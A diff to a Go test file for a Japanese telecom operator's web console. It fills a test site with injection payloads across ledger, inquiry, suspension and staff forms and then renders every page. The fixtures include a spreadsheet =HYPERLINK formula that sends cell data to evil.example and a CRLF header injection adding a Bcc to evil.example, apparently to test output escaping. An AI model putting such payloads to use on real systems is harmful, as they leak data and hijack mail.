@@ -14,6 +14,7 @@ import (
 	"tsujiban/console/consoletest"
 	"tsujiban/console/ui"
 	"tsujiban/inquiry"
+	"tsujiban/ledger"
 	"tsujiban/people"
 )
 
@@ -24,6 +25,12 @@ const (
 	formula = `=HYPERLINK("http://evil.example/?"&A1,"x")`
 	header  = "x\r\nBcc: everybody@evil.example\r\n\r\n<b>"
 )
+
+// good are the answers of a holder who is taken.
+var good = map[string]string{
+	"purpose": "自社製品の購入者からの問い合わせを受ける窓口に使います", "channels": "4", "messages_per_month": "0", "numbers": "1", "bought_list": "no",
+	"hides_both_numbers": "no", "resells": "no", "abroad": "no", "forwarding": "no", "met": "yes",
+}
 
 // written is a site that strangers, customers and staff have written all over: by calls over SIP and by every order that takes
 // text. It returns what stands for the wildcards of paths.
@@ -54,8 +61,23 @@ func written(t *testing.T) (*consoletest.Site, map[string]string) {
 	do(t, site, http.MethodPost, "/v1/cases/"+id+"/note", control.CaseNote{Note: script}, nil)
 	var c inquiry.Case
 	do(t, site, http.MethodPost, "/v1/inquiries", control.InquiryOpen{Kind: "warrant", Agency: script, Officer: attr, Document: formula, Note: script, Numbers: []string{"092-555-1234"}}, &c)
+	for path, in := range map[string]any{
+		"/v1/ledger/holders/bulk": control.HolderChange{Add: true, Ground: formula, Fields: map[string]any{"name": script, "address": attr, "phone": "092-555-1234"}},
+		"/v1/ledger/numbers":      control.NumberChange{Verb: "add", Numbers: []string{"050-1232-*"}, Source: script, Ground: script},
+	} {
+		do(t, site, http.MethodPost, path, in, nil)
+	}
+	do(t, site, http.MethodPost, "/v1/ledger/numbers", control.NumberChange{Verb: "test", Numbers: []string{"050-1232-5678"}, Ground: script}, nil)
+	do(t, site, http.MethodPost, "/v1/ledger/holders/bulk/screen", control.ScreenOrder{Answers: good, Ground: script}, nil)
+	do(t, site, http.MethodPost, "/v1/ledger/holders/bulk", control.HolderChange{Check: &ledger.Check{What: script, How: attr, By: formula}, Ground: script}, nil)
+	do(t, site, http.MethodPost, "/v1/ledger/numbers", control.NumberChange{Verb: "assign", Numbers: []string{"050-1232-0003"}, Holder: "bulk", Ground: script}, nil)
+	do(t, site, http.MethodPost, "/v1/ledger/cases", control.SuspensionRequest{Agency: script, Officer: attr, RequestNo: formula, Date: "2026-11-20", Numbers: []string{"050-1232-0003"}, Ground: script}, nil)
+	var viewer control.Staff
+	if err := site.Socket.Do(t.Context(), http.MethodPost, "/v1/staff", control.Staff{Login: "ito@example.jp", Name: script, Role: "viewer"}, &viewer); err != nil {
+		t.Fatal(err)
+	}
 	return site, map[string]string{
-		"customer": string(consoletest.Firm), "holder": string(consoletest.Firm), "id": "p-viewer", "act": "release", "link": "AAAA", "look": "1", "what": "letter", "entry": "1", "step": "1",
+		"customer": string(consoletest.Firm), "holder": "bulk", "id": viewer.ID, "act": "release", "link": "AAAA", "look": "1", "what": "letter", "entry": "1", "step": "1",
 		"/cases/{case}": id, "/inquiries/{case}": "1", "case": "1",
 	}
 }
@@ -172,7 +194,11 @@ func TestEveryPage(t *testing.T) {
 		t.Run(role.String(), func(t *testing.T) {
 			t.Parallel()
 			var tab *consoletest.Tab
-			for _, w := range []consoletest.Window{{Role: role, Lang: "ja", Colour: "light", Width: 390}, {Role: role, Lang: "en", Colour: "dark", Width: 1440}} {
+			windows := []consoletest.Window{{Role: role, Lang: "ja", Colour: "light", Width: 390}, {Role: role, Lang: "en", Colour: "dark", Width: 1440}}
+			if role == people.InquiryOfficer || role == people.Analyst || role == people.Viewer || role == people.Reseller {
+				windows = windows[:1] // the rest is as the administrator and the customer see it
+			}
+			for _, w := range windows {
 				for i, path := range pages {
 					if tab == nil {
 						tab = b.Open(t, w, path)
@@ -203,14 +229,15 @@ func TestEveryPage(t *testing.T) {
 	}
 }
 
-// isPage: streams, files, links that are asked for once and ways to other services are no pages.
+// isPage: streams, files, links that are asked for once and ways to other services are no pages; and the pages of one's own
+// account, which the walk of console/signin visits, need one.
 func isPage(b *ui.Bound) bool {
-	for _, part := range []string{"/live/", ".csv", "/csv", ".pdf", "/passkey", "/oidc", "{link}", "/new-passkey"} {
+	for _, part := range []string{"/live/", ".csv", "/csv", ".pdf", "/passkey", "/oidc", "{link}", "/account", "/prove"} {
 		if strings.Contains(b.Path, part) {
 			return false
 		}
 	}
-	return !b.Slow
+	return !b.Slow && b.Path != "/portal" // which leads who has one customer on
 }
 
 // inJapanese finds texts of a page that are words of another language: three or more Latin words in a row that are not marked
